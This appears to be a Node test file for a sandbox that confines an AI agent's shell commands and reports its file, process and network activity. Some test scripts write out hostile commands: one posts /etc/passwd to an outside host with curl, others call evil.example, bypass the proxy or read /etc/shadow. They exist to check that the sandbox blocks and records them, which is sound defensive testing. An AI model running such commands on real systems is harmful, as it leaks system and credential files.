/**
 * `run` with the real strace, bubblewrap, egress proxy and shim; relay and collector are stand-ins
 * that keep what they are told. Without strace or bubblewrap these are skipped, unless
 * VITRINE_REQUIRE=all.
 */
import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { readPath } from '@vitrine/schema';
import { fingerprint } from '../egress/credential.ts';
import { parseHostRule } from '../egress/host-rule.ts';
import { detectMachine, type Machine } from '../sandbox/detect.ts';
import { STAGE_RELAY, StageCollector, type Told } from '../stage/collector.ts';
import { StageProvider } from '../stage/provider.ts';
import type { RunOptions } from './options.ts';
import { runSandboxed } from './run.ts';

const KEY = '11'.repeat(32);
const SECRET = 'own-canary-secret-7731';
const FOREIGN = 'foreign-canary-secret-9942';
const machine = detectMachine();
const isComplete = machine.bwrap && machine.strace;
const isRequired = process.env.VITRINE_REQUIRE === 'all';
const skip =
  isComplete || isRequired
    ? false
    : `needs strace and bubblewrap: ${machine.install || 'see doctor'}`;

let collector: StageCollector;
let root: string;
let workspace: string;
const said: string[] = [];

beforeEach(async () => {
  collector = await StageCollector.start();
  root = mkdtempSync(join(tmpdir(), 'vitrine-test-'));
  workspace = join(root, 'ws');
  mkdirSync(workspace);
});

afterEach(async () => {
  await collector.stop();
  rmSync(root, { recursive: true, force: true });
  said.length = 0;
  const left = readdirSync(tmpdir()).filter((name) => join(tmpdir(), name) === collector.dir);
  assert.deepEqual(left, [], 'the files of the run are gone');
});

function run(script: string, more: Partial<RunOptions> = {}, on: Machine = machine) {
  const options: RunOptions = {
    command: ['sh', '-c', script],
    workspace,
    collector: { api: collector.api, token: 'stage' },
    relayEntry: STAGE_RELAY,
    fingerprintKey: KEY,
    say: (line) => said.push(line),
    ...more,
  };
  return runSandboxed(options, on);
}

const inWorkspace = (name: string): string => readFileSync(join(workspace, name), 'utf8');
const filePaths = (kind: string): unknown[] =>
  collector.of(kind).map(({ fields }) => readPath(fields, 'file.path'));

describe('a command in a sandbox', { skip }, () => {
  it('ends with its own exit code, and its session is told from first to last', async () => {
    const result = await run(
      'echo hello > made.txt; ln -s /etc/passwd esc; cat esc >/dev/null; exit 7',
    );
    assert.deepEqual(result, { exitCode: 7, session: 'made-up', whole: true });
    assert.deepEqual(collector.ended, ['made-up']);
    assert.equal(inWorkspace('made.txt'), 'hello\n');
    assert.ok(filePaths('file.create').includes(join(workspace, 'made.txt')));
    const led = collector.of('file.read').find(({ fields }) => {
      return readPath(fields, 'file.path') === join(workspace, 'esc');
    });
    assert.equal(readPath(led?.fields, 'file.real_path'), '/etc/passwd');
    const first = collector.told.find(({ kind }) => kind === 'process.exec');
    assert.equal(readPath(first?.fields, 'process.exe'), '/usr/bin/sh');
    assert.ok(collector.told.every(({ vantage }) => vantage === 'boundary'));
    for (const shim of ['run', 'egress', 'strace']) {
      const own = collector.told.filter(({ fields }) => readPath(fields, 'source.shim') === shim);
      const numbers = own.map(({ fields }) => readPath(fields, 'source.seq'));
      assert.deepEqual(
        numbers,
        numbers.map((_, i) => i),
        `${shim} has no hole`,
      );
      assert.equal(own.at(-1)?.kind, 'telemetry.bye');
    }
    assert.equal(readPath(collector.of('session.end')[0]?.fields, 'process.exit_code'), 7);
  });

  it('is described with host, process, grants and what is absent', async () => {
    await run('true', {
      ro: [root],
      allow: [parseHostRule('a.example'), parseHostRule('b.example:80')],
    });
    const { description } = collector;
    assert.equal(description?.runtime, 'native');
    assert.equal(description?.host.process?.pid, process.pid);
    assert.match(description?.host.process?.start ?? '', /^\d+$/);
    assert.deepEqual(description?.hosts, ['a.example', 'b.example:80']);
    assert.deepEqual(description?.expected, ['run', 'egress', 'strace']);
    const grants = Object.fromEntries(
      description?.grants.map(({ path, mode }) => [path, mode]) ?? [],
    );
    assert.deepEqual(grants, { [root]: 'ro', [workspace]: 'rw' });
  });

  it('sees no network, no other process, no capability and no socket but ours', async () => {
    const decoy = join(workspace, 'decoy.sock');
    const server: Server = createServer().listen(decoy);
    await run(`cat /proc/net/route > route; cat /proc/net/dev > dev; ls /proc > proc
      grep Cap /proc/self/status > caps
      find /etc /opt /run /tmp /home /root /var . -xtype s > sockets 2>/dev/null
      touch /etc/x /usr/x /run/vitrine/x 2>/dev/null; mv /run/vitrine /run/away 2>/dev/null
      cat /etc/shadow > shadow 2>/dev/null; true`);
    server.close();
    assert.equal(inWorkspace('route').trim().split('\n').length, 1, 'only the heading');
    const interfaces = [...inWorkspace('dev').matchAll(/^ *(\w+):/gm)].map(([, name]) => name);
    assert.deepEqual(interfaces, ['lo']);
    assert.ok(
      inWorkspace('proc')
        .split('\n')
        .filter((name) => /^\d+$/.test(name)).length < 6,
    );
    assert.doesNotMatch(inWorkspace('caps'), /Cap(Inh|Prm|Eff|Bnd|Amb):\s*0*[1-9a-f]/);
    const sockets = inWorkspace('sockets').trim().split('\n').toSorted();
    assert.deepEqual(sockets, ['/run/vitrine/egress.sock', '/run/vitrine/intake.sock']);
    assert.equal(inWorkspace('shadow'), '');
    assert.equal(existsSync('/etc/x') || existsSync('/usr/x'), false);
  });

  it('sees grants as they were given, and never what is hidden', async () => {
    for (const name of ['ro', 'ws/data']) mkdirSync(join(root, name));
    writeFileSync(join(root, 'ro/keep'), 'kept');
    writeFileSync(join(root, 'ws/data/admin.token'), SECRET);
    await run(
      `cat ${root}/ro/keep > seen; echo x > ${root}/ro/y; cat data/* > hidden; ls ${root}`,
      {
        ro: [join(root, 'ro')],
        hidden: [join(root, 'ws/data')],
      },
    );
    assert.equal(inWorkspace('seen'), 'kept');
    assert.equal(inWorkspace('hidden'), '');
    assert.deepEqual(readdirSync(join(root, 'ro')), ['keep']);
    const denied = collector.told.find(({ fields }) => readPath(fields, 'file.errno') === 'EROFS');
    assert.equal(readPath(denied?.fields, 'file.path'), join(root, 'ro/y'));
  });

  it('has the credentials it was given; nobody else does', async () => {
    await run(`echo "$API_KEY" > key; true --token ${SECRET}; echo "$PATH" > path`, {
      credentials: [{ name: 'API_KEY', value: SECRET }],
      env: { EXTRA: '1' },
    });
    assert.equal(inWorkspace('key').trim(), SECRET);
    assert.deepEqual(collector.description?.credentials, [
      fingerprint(Buffer.from(KEY, 'hex'), SECRET),
    ]);
    assert.ok(!JSON.stringify([collector.told, collector.description, said]).includes(SECRET));
  });
});

describe('ways out of the sandbox', { skip }, () => {
  let provider: StageProvider;
  let providerDir: string;
  before(async () => {
    providerDir = mkdtempSync(join(tmpdir(), 'vitrine-provider-'));
    provider = await StageProvider.start(providerDir, (request, response) => {
      request.resume();
      request.on('end', () => response.end('{"id":"file_1"}'));
    });
  });
  after(async () => {
    await provider?.end();
    rmSync(providerDir, { recursive: true, force: true });
  });

  it('lead through the proxy, which tells of each use', async () => {
    const rule = parseHostRule(`api.anthropic.com=127.0.0.1:${provider.port}`, provider.caFile);
    const result = await run(
      `curl -sS -o answer -H "x-api-key: ${FOREIGN}" --data-binary @/etc/passwd https://api.anthropic.com/v1/files
      curl -sS -o refused https://evil.example/ 2>/dev/null; curl -s --noproxy '*' -m 1 http://93.184.216.34/; true`,
      { allow: [rule], credentials: [{ name: 'API_KEY', value: SECRET }] },
    );
    assert.equal(result.whole, true);
    assert.equal(inWorkspace('answer'), '{"id":"file_1"}');
    const [request] = collector.of('egress.request');
    assert.equal(readPath(request?.fields, 'http.auth_provisioned'), false);
    assert.equal(readPath(request?.fields, 'http.function'), 'anthropic.files.create');
    const verdicts = collector
      .of('egress.tunnel')
      .map(({ fields }) => readPath(fields, 'decision.value'));
    assert.deepEqual(verdicts, ['accept', 'reject']);
    const direct = collector.of('net.connect').find(({ fields }) => {
      return readPath(fields, 'net.dst_ip') === '93.184.216.34';
    });
    assert.equal(readPath(direct?.fields, 'net.errno'), 'ENETUNREACH');
    assert.ok(!JSON.stringify(collector.told).includes(FOREIGN));
  });

  it('include the intake, where the agent speaks for itself', async () => {
    const log = { timeUnixNano: '5', eventName: 'tool.call', attributes: [] };
    const body = JSON.stringify({ resourceLogs: [{ scopeLogs: [{ logRecords: [log] }] }] });
    writeFileSync(join(workspace, 'body.json'), body);
    await run('curl -sS -H content-type:application/json -d @body.json $VITRINE_OTLP/v1/logs');
    assert.deepEqual(
      collector.of('tool.call').map(({ vantage }) => vantage),
      ['agent'],
    );
  });
});

describe('losses', { skip }, () => {
  it('of the strace shim do not end the sandbox, and are told of', async () => {
    collector.onBegin = () => void killShim();
    const result = await run(
      'for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; : > f$i; done; echo done > end',
    );
    assert.equal(result.exitCode, 0);
    assert.equal(inWorkspace('end'), 'done\n');
    const drops = collector.of('telemetry.drop');
    assert.ok(drops.length > 0, 'a drop is told of');
    assert.equal(readPath(drops[0]?.fields, 'source.shim'), 'strace');
    assert.match(String(drops[0]?.fields.reason), /SIGKILL/);
    const lines = drops.reduce((sum, { fields }) => sum + Number(fields.lines), 0);
    assert.ok(lines > 5, `${lines} lines`);
    assert.equal(filePaths('file.create').includes(join(workspace, 'f9')), false);
  });

  /** Once the shim has told of the agent's first program. */
  async function killShim(): Promise<void> {
    for (let tries = 0; tries < 1_000; tries++) {
      await sleep(10);
      const seen = collector.read().some(({ kind }: Told) => kind === 'file.create');
      if (seen) break;
    }
    const children = readFileSync(`/proc/self/task/${process.pid}/children`, 'utf8').split(' ');
    for (const pid of children.filter(Boolean)) {
      const command = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      if (command.includes('bin/strace.mjs')) process.kill(Number(pid), 'SIGKILL');
    }
  }
});

describe('the end', { skip }, () => {
  it('comes with SIGTERM: the command is asked, the session closed', async () => {
    const script =
      'trap "echo asked > trapped; exit 3" TERM; echo > up; while :; do sleep 0.05; done';
    const running = run(script);
    for (let tries = 0; tries < 500 && !existsSync(join(workspace, 'up')); tries++) await sleep(20);
    process.emit('SIGTERM', 'SIGTERM');
    const result = await running;
    assert.equal(result.exitCode, 3);
    assert.equal(inWorkspace('trapped'), 'asked\n');
    assert.deepEqual(collector.ended, ['made-up']);
  });

  it('is 128 + the signal for a command that a signal ends, 127 for one that is not there', async () => {
    assert.equal((await run('kill -9 $$')).exitCode, 137);
    assert.equal((await run('', { command: ['no-such-program'] })).exitCode, 127);
  });
});

describe('a machine without', () => {
  const without = (lacking: Partial<Machine>): Machine => ({ ...machine, ...lacking });
  const absent = [
    { source: 'sandbox', reason: 'bubblewrap is not installed' },
    { source: 'strace', reason: 'strace is not installed' },
  ];
  const install = 'sudo apt-get install -y bubblewrap strace';

  it('bubblewrap is refused, with the line that helps', async () => {
    const none = without({ bwrap: false, strace: false, absent, install });
    await assert.rejects(
      run('true', {}, none),
      (error: Error & { code?: string; hint?: string }) => {
        assert.equal(error.code, 'SANDBOX_UNAVAILABLE');
        return (error.hint ?? '').startsWith(install);
      },
    );
    assert.equal(collector.description, undefined);
  });

  it('either runs the command if that is allowed, and says what is missing', async () => {
    const none = without({ bwrap: false, strace: false, absent, install });
    const script = 'echo "$HTTPS_PROXY" > proxy; exit 4';
    const result = await run(script, { allowUnsandboxed: true }, none);
    assert.equal(result.exitCode, 4);
    assert.match(inWorkspace('proxy'), /^http:\/\/127\.0\.0\.1:\d+$/m);
    assert.equal(collector.description?.runtime, 'none');
    assert.deepEqual(collector.description?.absent, absent);
    assert.ok(said.some((line) => line.includes('WITHOUT a sandbox')));
  });

  it('strace goes on, and the session says so', { skip }, async () => {
    const blind = without({ strace: false, absent: absent.slice(1), install: '' });
    assert.equal((await run('exit 2', {}, blind)).exitCode, 2);
    assert.deepEqual(collector.description?.absent, absent.slice(1));
    assert.deepEqual(collector.description?.expected, ['run', 'egress']);
    assert.equal(collector.of('process.exec').length, 0);
  });

  it('a collector stops before anything runs', async () => {
    const gone = { api: 'http://127.0.0.1:1', token: 'stage' };
    const anywhere = { allowUnsandboxed: true, collector: gone };
    await assert.rejects(run('echo > ran', anywhere), { code: 'COLLECTOR_UNREACHABLE' });
    assert.equal(existsSync(join(workspace, 'ran')), false);
  });
});
